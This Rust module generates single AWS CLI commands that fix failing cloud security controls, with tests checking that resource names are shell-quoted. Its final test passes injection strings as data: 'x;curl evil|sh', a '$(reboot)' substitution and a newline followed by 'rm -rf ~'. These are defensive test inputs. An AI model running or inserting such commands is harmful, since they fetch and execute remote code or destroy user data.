//! A failing control's fix as one AWS CLI command, for the controls whose fix needs nothing but
//! the resource (no policy to write, no role or key to choose): the detail view shows it and the
//! action menu copies it. The rest link AWS's remediation page instead.
//!
//! Every value taken from the finding (a bucket's name, an instance id) is one shell word: the
//! command is pasted into a shell, and a resource name is text AWS did not write.

use crate::text::shell_word;

/// The command that fixes `control` on `resource` (an ARN, or `AWS::::Account:ID` for the
/// account's own controls) in `region` of `account`, where there is one.
pub fn cli_fix(control: &str, resource: &str, region: &str, account: &str) -> Option<String> {
    // A line break or an escape in a pasted command is trouble even quoted: no fix then.
    if [resource, region, account].iter().any(|v| v.chars().any(char::is_control)) {
        return None;
    }
    let region = shell_word(region);
    let block_all = "BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true";
    // Consolidated control ids; a standard's own (`PCI.S3.2`) have no fix here.
    let fix = match control {
        "S3.1" => format!(
            "aws s3control put-public-access-block --account-id {} --public-access-block-configuration {block_all}",
            shell_word(account)
        ),
        "S3.8" => format!(
            "aws s3api put-public-access-block --bucket {} --public-access-block-configuration {block_all}",
            shell_word(name_after(resource, "arn:", ":::")?)
        ),
        "EC2.1" => format!(
            "aws ec2 modify-snapshot-attribute --region {region} --snapshot-id {} --attribute createVolumePermission \
             --operation-type remove --group-names all",
            shell_word(typed(resource, ":ec2:", "snapshot/")?)
        ),
        "EC2.7" => format!("aws ec2 enable-ebs-encryption-by-default --region {region}"),
        "EC2.8" => format!(
            "aws ec2 modify-instance-metadata-options --region {region} --instance-id {} --http-tokens required \
             --http-endpoint enabled",
            shell_word(typed(resource, ":ec2:", "instance/")?)
        ),
        "ECR.1" => format!(
            "aws ecr put-image-scanning-configuration --region {region} --repository-name {} \
             --image-scanning-configuration scanOnPush=true",
            shell_word(typed(resource, ":ecr:", "repository/")?)
        ),
        "KMS.4" => {
            format!(
                "aws kms enable-key-rotation --region {region} --key-id {}",
                shell_word(typed(resource, ":kms:", "key/")?)
            )
        }
        "GuardDuty.1" => format!("aws guardduty create-detector --region {region} --enable"),
        "RDS.2" => format!(
            "aws rds modify-db-instance --region {region} --db-instance-identifier {} --no-publicly-accessible \
             --apply-immediately",
            shell_word(typed(resource, ":rds:", "db:")?)
        ),
        "DynamoDB.2" => format!(
            "aws dynamodb update-continuous-backups --region {region} --table-name {} \
             --point-in-time-recovery-specification PointInTimeRecoveryEnabled=true",
            shell_word(typed(resource, ":dynamodb:", "table/")?)
        ),
        "CloudTrail.4" => format!(
            "aws cloudtrail update-trail --region {region} --name {} --enable-log-file-validation",
            shell_word(resource.starts_with("arn:").then_some(resource).filter(|r| r.contains(":cloudtrail:"))?)
        ),
        _ => return None,
    };
    Some(fix)
}

/// What follows `marker` in an ARN that starts with `prefix` (a bucket after `:::`).
fn name_after<'a>(arn: &'a str, prefix: &str, marker: &str) -> Option<&'a str> {
    let (_, name) = arn.strip_prefix(prefix)?.split_once(marker)?;
    (!name.is_empty()).then_some(name)
}

/// The id of an ARN of `service` whose resource part is `kind` then the id (`instance/i-0abc`).
fn typed<'a>(arn: &'a str, service: &str, kind: &str) -> Option<&'a str> {
    if !arn.starts_with("arn:") || !arn.contains(service) {
        return None;
    }
    let resource = arn.splitn(6, ':').nth(5)?;
    let id = resource.strip_prefix(kind)?;
    (!id.is_empty()).then_some(id)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_fix_names_the_resource_and_its_region() {
        assert_eq!(
            cli_fix("S3.8", "arn:aws:s3:::shop-assets", "eu-west-1", "1").unwrap(),
            "aws s3api put-public-access-block --bucket shop-assets --public-access-block-configuration \
             BlockPublicAcls=true,IgnorePublicAcls=true,BlockPublicPolicy=true,RestrictPublicBuckets=true"
        );
        assert_eq!(
            cli_fix("EC2.8", "arn:aws:ec2:eu-west-1:1:instance/i-0abc", "eu-west-1", "1").unwrap(),
            "aws ec2 modify-instance-metadata-options --region eu-west-1 --instance-id i-0abc --http-tokens required \
             --http-endpoint enabled"
        );
        assert!(
            cli_fix("KMS.4", "arn:aws:kms:us-east-1:1:key/1234-abcd", "us-east-1", "1")
                .unwrap()
                .ends_with("--key-id 1234-abcd")
        );
        assert!(
            cli_fix("S3.1", "AWS::::Account:111122223333", "us-east-1", "111122223333")
                .unwrap()
                .contains("--account-id 111122223333")
        );
    }

    #[test]
    fn no_fix_for_a_resource_of_another_kind_or_a_control_without_one() {
        assert_eq!(cli_fix("EC2.8", "arn:aws:ec2:us-east-1:1:snapshot/snap-1", "us-east-1", "1"), None);
        assert_eq!(cli_fix("S3.8", "AWS::::Account:1", "us-east-1", "1"), None);
        assert_eq!(cli_fix("IAM.4", "AWS::::Account:1", "us-east-1", "1"), None, "the root user's keys: no CLI");
    }

    #[test]
    fn a_hostile_name_stays_one_quoted_word() {
        let fix = cli_fix("ECR.1", "arn:aws:ecr:us-east-1:1:repository/x;curl evil|sh", "us-east-1", "1").unwrap();
        assert!(fix.contains("--repository-name 'x;curl evil|sh' "), "{fix}");
        let fix = cli_fix("GuardDuty.1", "AWS::::Account:1", "us-east-1$(reboot)", "1").unwrap();
        assert!(fix.contains("--region 'us-east-1$(reboot)'"), "{fix}");
        assert_eq!(cli_fix("S3.8", "arn:aws:s3:::a\nrm -rf ~", "us-east-1", "1"), None);
    }
}
